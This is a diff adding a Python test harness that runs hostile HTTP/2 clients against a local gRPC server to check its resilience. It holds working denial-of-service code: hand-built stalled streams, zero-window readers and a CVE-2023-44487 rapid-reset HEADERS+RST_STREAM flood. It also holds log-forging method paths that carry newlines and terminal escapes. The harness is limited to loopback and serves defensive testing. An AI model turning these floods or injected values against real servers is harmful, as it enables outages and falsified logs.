@@ -1,0 +1,384 @@
+#!/usr/bin/python3
+"""hostile.py - hostile and careless gRPC clients against a psd on loopback,
+used by tests/it_hostile.sh. The attacker speaks HTTP/2 itself (frames and
+HPACK written by hand here, independent of gRPC) so it can do what no gRPC
+library would: open streams and never send the request, never open the flow
+control window for a reply, or reset every stream right after its HEADERS
+(the CVE-2023-44487 "rapid reset" class). While an attack runs, a
+well-behaved client (Python grpcio) keeps calling Health/Check, Status and
+GetParameters, and psd's RSS is sampled from /proc.
+
+Only loopback targets are accepted; every loop is bounded in count and time.
+
+  hostile.py ATTACK HOST PORT PSD_PID SECONDS [options]
+    ATTACK: stall   N streams (over several connections) that send HEADERS
+                    and never their message
+            silent  N GetParameters calls whose replies are never given flow
+                    control window (a silent reader)
+            reset   HEADERS + RST_STREAM pairs, as fast as one connection
+                    takes them (at most --max-streams)
+  options: --tls CA CERT KEY  (mutual TLS, server name "localhost")
+           --token T          attacker's token ('' = none)
+           --good-token T     well-behaved client's token
+           --n N              streams for stall/silent (default 600)
+           --max-rss-mb M     assert: RSS growth below M MiB
+           --max-latency-s S  assert: every good call answered within S s
+           --expect-refused   stall: assert the attacker saw its calls ended
+
+Prints one line of figures:
+  ATTACK: rss growth X MiB (peak Y MiB), good calls N ok / F failed, worst latency L s, ...
+and exits 1 when an asserted bound is broken.
+"""
+import argparse
+import os
+import select
+import socket
+import ssl
+import struct
+import sys
+import threading
+import time
+
+LOOPBACK = ("127.", "::1", "localhost")
+
+
+def frame(ftype, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload
+
+
+def hpack_str(s):
+    b = s.encode()
+    assert len(b) < 127 or True
+    # length with a 7-bit prefix, no Huffman
+    out = bytearray()
+    n = len(b)
+    if n < 127:
+        out.append(n)
+    else:
+        out.append(127)
+        n -= 127
+        while n >= 128:
+            out.append((n & 0x7F) | 0x80)
+            n >>= 7
+        out.append(n)
+    return bytes(out) + b
+
+
+def headers_block(path, authority, scheme, token):
+    # :method POST (static 3), :scheme http/https (6/7); literals without indexing
+    block = bytearray([0x83, 0x87 if scheme == "https" else 0x86])
+    block += b"\x04" + hpack_str(path)           # :path, name index 4
+    block += b"\x01" + hpack_str(authority)      # :authority, name index 1
+    block += b"\x0f\x10" + hpack_str("application/grpc")  # content-type, index 31
+    block += b"\x00" + hpack_str("te") + hpack_str("trailers")
+    if token:
+        block += b"\x00" + hpack_str("authorization") + hpack_str("Bearer " + token)
+    return bytes(block)
+
+
+class H2Conn:
+    """One raw HTTP/2 connection, driven from one thread (an SSL object must
+    not be read and written concurrently): pump() drains what psd sent,
+    answers SETTINGS and PING (never WINDOW_UPDATE: the attacker decides flow
+    control), and counts RST_STREAM, GOAWAY and trailers (ended calls)."""
+
+    def __init__(self, host, port, tls, window=None, source=None):
+        s = socket.create_connection((host, port), timeout=10,
+                                     source_address=(source, 0) if source else None)
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.scheme = "http"
+        if tls:
+            ca, cert, key = tls
+            ctx = ssl.create_default_context(cafile=ca)
+            ctx.load_cert_chain(cert, key)
+            ctx.set_alpn_protocols(["h2"])
+            s = ctx.wrap_socket(s, server_hostname="localhost")
+            self.scheme = "https"
+        s.settimeout(2.0)  # every send is bounded in time
+        self.sock = s
+        self.closed = False
+        self.rst = 0
+        self.headers = 0
+        self.goaway = 0
+        self.next_id = 1
+        self.buf = b""
+        settings = b""
+        if window is not None:  # SETTINGS_INITIAL_WINDOW_SIZE
+            settings = struct.pack(">HI", 4, window)
+        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
+
+    def send(self, data):
+        self.sock.sendall(data)
+
+    def pump(self, max_bytes=1 << 20):
+        """Read what is there (without waiting) and handle whole frames."""
+        got = 0
+        try:
+            while got < max_bytes:
+                pending = self.sock.pending() if isinstance(self.sock, ssl.SSLSocket) else 0
+                if not pending and not select.select([self.sock], [], [], 0)[0]:
+                    break
+                chunk = self.sock.recv(65536)
+                if not chunk:
+                    self.closed = True
+                    break
+                got += len(chunk)
+                self.buf += chunk
+        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
+            pass
+        except OSError:
+            self.closed = True
+        out = b""
+        while len(self.buf) >= 9:
+            ln = struct.unpack(">I", b"\0" + self.buf[:3])[0]
+            if len(self.buf) < 9 + ln:
+                break
+            ftype, flags = self.buf[3], self.buf[4]
+            payload = self.buf[9:9 + ln]
+            self.buf = self.buf[9 + ln:]
+            if ftype == 4 and not flags & 1:
+                out += frame(4, 1, 0)
+            elif ftype == 6 and not flags & 1:
+                out += frame(6, 1, 0, payload)
+            elif ftype == 3:
+                self.rst += 1
+            elif ftype == 1 and flags & 1:  # trailers: the call ended
+                self.headers += 1
+            elif ftype == 7:
+                self.goaway += 1
+        if out and not self.closed:
+            try:
+                self.send(out)
+            except OSError:
+                self.closed = True
+
+    def open_stream(self, path, authority, token, message=None):
+        sid = self.next_id
+        self.next_id += 2
+        block = headers_block(path, authority, self.scheme, token)
+        data = frame(1, 0x4, sid, block)  # END_HEADERS, stream stays open
+        if message is not None:
+            body = b"\0" + struct.pack(">I", len(message)) + message
+            data += frame(0, 0x1, sid, body)  # END_STREAM
+        self.send(data)
+        return sid
+
+    def close(self):
+        self.closed = True
+        try:
+            self.sock.close()
+        except Exception:
+            pass
+
+
+def rss_mb(pid):
+    try:
+        with open(f"/proc/{pid}/status") as f:
+            for line in f:
+                if line.startswith("VmRSS:"):
+                    return int(line.split()[1]) / 1024.0
+    except OSError:
+        return None
+    return None
+
+
+class Good:
+    """The well-behaved client: Health/Check, Status and GetParameters in a
+    loop (grpcio), recording the worst latency and failures."""
+
+    def __init__(self, target, tls, token):
+        import grpc
+        self.grpc = grpc
+        opts = [("grpc.max_receive_message_length", 64 << 20)]
+        if tls:
+            ca, cert, key = tls
+            creds = grpc.ssl_channel_credentials(open(ca, "rb").read(), open(key, "rb").read(),
+                                                 open(cert, "rb").read())
+            self.ch = grpc.secure_channel(target, creds, opts + [("grpc.ssl_target_name_override", "localhost")])
+        else:
+            self.ch = grpc.insecure_channel(target, opts)
+        ident = lambda b: b
+        self.md = [("authorization", "Bearer " + token)] if token else None
+        self.calls = [self.ch.unary_unary(p, request_serializer=ident, response_deserializer=ident)
+                      for p in ("/grpc.health.v1.Health/Check", "/ps.ParameterServer/Status",
+                                "/ps.ParameterServer/GetParameters")]
+        self.worst = 0.0
+        self.ok = 0
+        self.failed = []
+        self.stop = False
+        self.lat = []
+
+    def one(self, i, timeout=30):
+        t0 = time.monotonic()
+        try:
+            r = self.calls[i](b"", timeout=timeout, metadata=self.md)
+            dt = time.monotonic() - t0
+            if i == 0 and r != b"\x08\x01":
+                self.failed.append(f"health says {r!r} (not SERVING)")
+            else:
+                self.ok += 1
+        except self.grpc.RpcError as e:
+            dt = time.monotonic() - t0
+            self.failed.append(f"{e.code().name}: {e.details()}")
+        self.worst = max(self.worst, dt)
+        self.lat.append(dt)
+
+    def loop(self, deadline):
+        i = 0
+        while not self.stop and time.monotonic() < deadline and i < 100000:
+            self.one(i % 3)
+            i += 1
+            time.sleep(0.05)
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("attack", choices=["stall", "silent", "reset", "forge"])
+    ap.add_argument("host")
+    ap.add_argument("port", type=int)
+    ap.add_argument("pid", type=int)
+    ap.add_argument("seconds", type=float)
+    ap.add_argument("--tls", nargs=3)
+    ap.add_argument("--token", default="")
+    ap.add_argument("--good-token", default="")
+    ap.add_argument("--n", type=int, default=600)
+    ap.add_argument("--source", default="127.0.0.2",
+                    help="attacker's source address (another loopback address: another client)")
+    ap.add_argument("--max-streams", type=int, default=2_000_000)
+    ap.add_argument("--max-rss-mb", type=float)
+    ap.add_argument("--max-latency-s", type=float)
+    ap.add_argument("--expect-ended", action="store_true")
+    ap.add_argument("--expect-cut", action="store_true", help="reset: psd must close the connection")
+    a = ap.parse_args()
+    if not a.host.startswith(LOOPBACK) or not a.source.startswith(LOOPBACK):
+        sys.exit("hostile.py: loopback targets only")
+    a.seconds = min(a.seconds, 120.0)
+    target = f"{a.host}:{a.port}"
+    authority = target
+
+    good = Good(target, a.tls, a.good_token)
+    for _ in range(50):  # psd up and answering before the attack
+        good.one(0, timeout=2)
+        if good.ok:
+            break
+        time.sleep(0.1)
+    good.ok, good.failed, good.worst, good.lat = 0, [], 0.0, []
+    rss0 = rss_mb(a.pid)
+    peak = rss0
+    t_end = time.monotonic() + a.seconds
+    gt = threading.Thread(target=good.loop, args=(t_end + 2,), daemon=True)
+    gt.start()
+
+    conns = []
+    sent = 0
+    extra = ""
+    try:
+        if a.attack == "forge":
+            # method paths that would forge log lines (newline, ESC, journald priority)
+            c = H2Conn(a.host, a.port, a.tls, source=a.source)
+            conns.append(c)
+            for p in ("/ps.ParameterServer/Forward\n2026-01-01T00:00:00.000Z psd[error] FORGED LINE\x1b[2J",
+                      "/x\n<0>psd[error] FORGED PRIORITY"):
+                c.open_stream(p, authority, a.token, b"")
+                sent += 1
+            for _ in range(20):
+                c.pump()
+                if c.rst + c.headers >= sent:
+                    break
+                time.sleep(0.1)
+            extra = f", {sent} forged method paths sent, {c.rst + c.headers} answered"
+        elif a.attack in ("stall", "silent"):
+            per = 100  # streams per connection (at most what psd allows)
+            path = "/ps.ParameterServer/GetParameters"
+            msg = None if a.attack == "stall" else b""
+            window = None if a.attack == "stall" else 0
+            opened_at = time.monotonic()
+            while sent < a.n and time.monotonic() < t_end:
+                c = H2Conn(a.host, a.port, a.tls, window=window, source=a.source)
+                conns.append(c)
+                for _ in range(min(per, a.n - sent)):
+                    c.open_stream(path, authority, a.token, msg)
+                    sent += 1
+                c.pump()
+            while time.monotonic() < t_end:
+                peak = max(peak, rss_mb(a.pid) or 0)
+                for c in conns:
+                    c.pump()
+                time.sleep(0.2)
+            ended = sum(c.rst + c.headers for c in conns)
+            extra = (f", {sent} streams opened on {len(conns)} connections, {ended} ended by psd "
+                     f"within {time.monotonic() - opened_at:.0f} s")
+            if a.expect_ended and ended < sent // 2:
+                good.failed.append(f"psd ended only {ended} of {sent} stalled streams")
+        else:
+            c = H2Conn(a.host, a.port, a.tls, source=a.source)
+            conns.append(c)
+            block = headers_block("/ps.ParameterServer/GetParameters", authority, c.scheme, a.token)
+            last_sample = 0
+            cut = 0
+            while time.monotonic() < t_end and sent < a.max_streams and len(conns) < 2000:
+                if c.closed:  # psd closed it: come back on a new connection
+                    cut += 1
+                    try:
+                        c = H2Conn(a.host, a.port, a.tls, source=a.source)
+                    except OSError:
+                        time.sleep(0.01)
+                        continue
+                    conns.append(c)
+                burst = bytearray()
+                for _ in range(200):
+                    sid = c.next_id
+                    c.next_id += 2
+                    if sid >= 1 << 31:
+                        break
+                    burst += frame(1, 0x4, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
+                    sent += 1
+                try:
+                    c.send(bytes(burst))
+                except OSError:  # psd closed it, or stopped reading it for 2 s
+                    c.closed = True
+                    continue
+                c.pump()
+                now = time.monotonic()
+                if now - last_sample > 0.2:
+                    peak = max(peak, rss_mb(a.pid) or 0)
+                    last_sample = now
+                if c.next_id >= 1 << 31:  # stream ids exhausted: a new connection
+                    c = H2Conn(a.host, a.port, a.tls, source=a.source)
+                    conns.append(c)
+            extra = (f", {sent} HEADERS+RST_STREAM pairs sent ({sent / a.seconds:.0f}/s) on "
+                     f"{len(conns)} connection(s), {cut} closed by psd")
+            if a.expect_cut and cut < 1:
+                good.failed.append("psd never closed the resetting connection")
+    finally:
+        for c in conns:
+            c.close()
+    time.sleep(1.0)
+    peak = max(peak, rss_mb(a.pid) or 0)
+    good.stop = True
+    gt.join(timeout=40)
+    rss1 = rss_mb(a.pid)
+    if rss1 is None:
+        print(f"{a.attack}: FAIL: psd (pid {a.pid}) is gone")
+        sys.exit(1)
+    growth = peak - rss0
+    lat = sorted(good.lat) or [0]
+    print(f"{a.attack}: psd rss {rss0:.0f} MiB -> peak {peak:.0f} MiB (growth {growth:.0f} MiB), "
+          f"well-behaved client: {good.ok} calls ok, {len(good.failed)} failed, median latency "
+          f"{lat[len(lat) // 2] * 1000:.0f} ms, worst {good.worst:.2f} s{extra}")
+    bad = []
+    if good.failed:
+        bad.append(f"well-behaved calls failed: {good.failed[:3]}")
+    if good.ok < 3:
+        bad.append(f"only {good.ok} well-behaved calls completed")
+    if a.max_rss_mb is not None and growth > a.max_rss_mb:
+        bad.append(f"RSS grew {growth:.0f} MiB > {a.max_rss_mb} MiB")
+    if a.max_latency_s is not None and good.worst > a.max_latency_s:
+        bad.append(f"worst latency {good.worst:.1f} s > {a.max_latency_s} s")
+    if bad:
+        print(f"{a.attack}: FAIL: " + "; ".join(bad))
+        sys.exit(1)
+
+
+if __name__ == "__main__":
+    main()
